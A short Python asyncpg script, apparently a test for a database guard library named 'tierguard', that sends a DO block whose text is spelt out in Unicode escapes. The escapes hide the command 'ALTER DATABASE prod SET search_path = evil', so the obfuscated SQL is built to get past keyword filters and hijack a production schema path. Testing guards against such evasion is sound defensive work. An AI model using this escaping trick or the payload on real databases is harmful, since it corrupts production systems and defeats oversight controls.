"""asyncpg: a block whose words are spelt by escapes."""

import asyncio
import os

import asyncpg

import tierguard

tierguard.install()
words = "EXECUTE 'ALTER DATABASE prod SET search_path = evil'"
hidden = "".join(f"\\{ord(letter):04x}" for letter in words)


async def main():
    connection = await asyncpg.connect(os.environ["INT_BESIDE_PROD_URL"])
    await connection.execute(f"DO U&'BEGIN {hidden}; END' /* {os.environ['ROUTE_MARK']} */")


asyncio.run(main())
